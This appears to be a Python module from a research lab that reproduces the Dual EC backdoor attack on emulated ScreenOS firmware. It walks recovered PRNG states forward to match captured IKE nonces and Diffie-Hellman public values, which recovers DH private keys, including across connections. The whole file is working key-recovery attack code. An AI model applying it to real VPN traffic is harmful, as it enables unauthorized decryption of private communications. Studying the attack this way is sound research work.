"""Walk the firmware PRNG forward from recovered states; match DH values and nonces.

An :class:`Anchor` is one candidate state s2 recovered from one observed
32-byte output (a responder nonce).  Walking runs the emulated firmware's own
``prng_generate()`` (:class:`~kleptolab.drbg.screenos.ScreenOsPrng`) from that
state, with the nonce left in the shared output buffer as on the device, so
the BN_bn2bin quirk is reproduced byte for byte.

:class:`PrngWalker` walks every anchor ``steps`` calls ahead once, and then
answers, for every DH public value and nonce in the capture, which anchor and
which draw (offset 1 = the call right after the nonce's call) produced it.
Searching *all* anchors, not only the session's own, is the multi-connection
attack of dossier §4.2: a key drawn before its own nonce is found from an
earlier connection's nonce.  Cost is anchors * steps * groups, linear in the
number of handshakes.
"""

from __future__ import annotations

from dataclasses import dataclass

from kleptolab.device.profiles import PrngGeneration
from kleptolab.drbg.screenos import ScreenOsPrng
from kleptolab.ike.dh import DhGroup

__all__ = ["Anchor", "DhMatch", "DrawRef", "PrngWalker", "walk_outputs"]

Point = tuple[int, int]


@dataclass(frozen=True)
class Anchor:
    """A candidate state recovered from ``nonce`` (seen at capture position ``order``)."""

    session: str
    label: str
    order: int
    nonce: bytes
    state: int


@dataclass(frozen=True)
class DrawRef:
    """Output number ``offset`` after ``anchor``'s call (``calls`` outputs consumed)."""

    anchor: Anchor
    offset: int
    calls: int = 1

    def describe(self) -> dict[str, object]:
        """JSON-ready description for report.json."""
        return {
            "anchor_session": self.anchor.session,
            "anchor_nonce": self.anchor.label,
            "anchor_state": f"{self.anchor.state:064x}",
            "offset": self.offset,
            "calls": self.calls,
        }


@dataclass(frozen=True)
class DhMatch:
    """A DH private value predicted by a walk: ``group.public_value(private) == public``."""

    group: DhGroup
    private: int
    draw: DrawRef


def walk_outputs(state: int, q: Point, steps: int, previous: bytes = b"") -> list[bytes]:
    """The next ``steps`` 32-byte ``prng_generate()`` outputs from Dual EC state ``state``.

    ``previous`` is the output buffer's content before the first call (the
    nonce the state was recovered from); it only matters for the BN_bn2bin quirk.
    """
    return _walk(state, q, steps, previous)[0]


def _walk(state: int, q: Point, steps: int, previous: bytes = b"") -> tuple[list[bytes], list[int]]:
    """Outputs and the Dual EC state after each of them."""
    if steps < 0:
        raise ValueError("steps must be >= 0")
    prng = ScreenOsPrng(PrngGeneration.DUALEC_X931, q=q, seed=state, cycle_counter=lambda: 0)
    if previous:
        if len(previous) != 32:
            raise ValueError(f"previous output must be 32 bytes, got {len(previous)}")
        prng.prng_temporary[:] = previous
    outputs, states = [], []
    for _ in range(steps):
        outputs.append(prng.generate())
        assert prng.dual_ec_state is not None
        states.append(prng.dual_ec_state)
    return outputs, states


@dataclass
class _Walk:
    anchor: Anchor
    outputs: list[bytes]
    states: list[int]


class PrngWalker:
    """Walks anchors forward once and matches DH public values and nonces against them."""

    def __init__(self, q: Point, steps: int = 64, exponent_bytes: int = 20) -> None:
        if steps < 1:
            raise ValueError("the walk needs at least one step")
        if not 1 <= exponent_bytes <= 32:
            raise ValueError("exponent_bytes must be in [1, 32]")
        self.q = q
        self.steps = steps
        self.exponent_bytes = exponent_bytes
        self._walks: list[_Walk] = []
        self._seen: set[tuple[bytes, int]] = set()
        self._outputs: dict[bytes, list[DrawRef]] = {}
        # group number -> (walks indexed so far, public value -> [(private, draw)])
        self._dh_index: dict[int, tuple[int, dict[bytes, list[tuple[int, DrawRef]]]]] = {}
        self._confirmed: dict[Anchor, list[str]] = {}

    @property
    def anchors(self) -> list[Anchor]:
        return [w.anchor for w in self._walks]

    def add(self, anchor: Anchor) -> bool:
        """Walk ``anchor`` (once per nonce and state); False when already walked."""
        key = (anchor.nonce, anchor.state)
        if key in self._seen:
            return False
        self._seen.add(key)
        outputs, states = _walk(anchor.state, self.q, self.steps, anchor.nonce)
        self._walks.append(_Walk(anchor, outputs, states))
        for offset, value in enumerate(outputs, start=1):
            self._outputs.setdefault(value, []).append(DrawRef(anchor, offset))
        return True

    def _cut(self, outputs: list[bytes], group: DhGroup, offset: int) -> int | None:
        """The private value cut at ``offset`` (1-based), or None past the walk's end."""
        it = iter(outputs[offset - 1 :])
        try:
            return group.private_from_prng(lambda: next(it), self.exponent_bytes)
        except StopIteration:
            return None

    def _index(self, group: DhGroup) -> dict[bytes, list[tuple[int, DrawRef]]]:
        done, index = self._dh_index.get(group.number, (0, {}))
        calls = 1 if group.kind == "modp" else -(-group.size // 32)
        for walk in self._walks[done:]:
            for offset in range(1, self.steps + 1):
                private = self._cut(walk.outputs, group, offset)
                if private is None:
                    break
                draw = DrawRef(walk.anchor, offset, calls)
                index.setdefault(group.public_value(private), []).append((private, draw))
        self._dh_index[group.number] = (len(self._walks), index)
        return index

    def find_dh(self, group: DhGroup, public: bytes, prefer: str | None = None) -> DhMatch | None:
        """The draw whose DH cut gives ``public``: ``prefer``'s own anchors first, then the
        smallest offset, then the latest anchor in capture order.

        ``prefer``'s anchors are scanned lazily, offset by offset, so a session unlocked by
        its own nonce costs a few modular exponentiations; only a miss builds the index
        over every anchor (the multi-connection search).
        """
        found = self._scan_own(group, public, prefer) if prefer is not None else None
        if found is None:
            hits = self._index(group).get(public, [])
            if not hits:
                return None
            found = min(
                hits,
                key=lambda h: (h[1].anchor.session != prefer, h[1].offset, -h[1].anchor.order),
            )
        private, draw = found
        self._confirm(draw.anchor, f"predicts a {group.name} public value at offset {draw.offset}")
        return DhMatch(group, private, draw)

    def _scan_own(self, group: DhGroup, public: bytes, session: str) -> tuple[int, DrawRef] | None:
        own = sorted((w for w in self._walks if w.anchor.session == session), key=lambda w: -w.anchor.order)
        calls = 1 if group.kind == "modp" else -(-group.size // 32)
        for offset in range(1, self.steps + 1):
            for walk in own:
                private = self._cut(walk.outputs, group, offset)
                if private is not None and group.public_value(private) == public:
                    return private, DrawRef(walk.anchor, offset, calls)
        return None

    def _confirm(self, anchor: Anchor, why: str) -> None:
        reasons = self._confirmed.setdefault(anchor, [])
        if why not in reasons:
            reasons.append(why)

    def confirmations(self, anchor: Anchor) -> list[str]:
        """Why ``anchor`` is a true state (empty: unconfirmed, maybe a filter false positive)."""
        return list(self._confirmed.get(anchor, []))

    def reanchor(self, output: bytes, session: str, label: str, order: int) -> list[Anchor]:
        """Anchor at ``output`` for free when a walk predicts it (no sweep): the state after it
        is already known, so walk ``steps`` further from there.  Returns the new anchors."""
        added = []
        for ref in self.find_output(output):
            walk = next(w for w in self._walks if w.anchor == ref.anchor)
            anchor = Anchor(session, label, order, output, walk.states[ref.offset - 1])
            if self.add(anchor):
                self._confirm(anchor, f"state known from {ref.anchor.label} of {ref.anchor.session}")
                added.append(anchor)
        return added

    def find_output(self, output: bytes) -> list[DrawRef]:
        """Every draw equal to ``output`` (e.g. a later nonce predicted by a walk)."""
        refs = [r for r in self._outputs.get(output, []) if r.anchor.nonce != output]
        for r in refs:
            self._confirm(r.anchor, f"predicts nonce {output[:4].hex()}... at offset {r.offset}")
        return refs
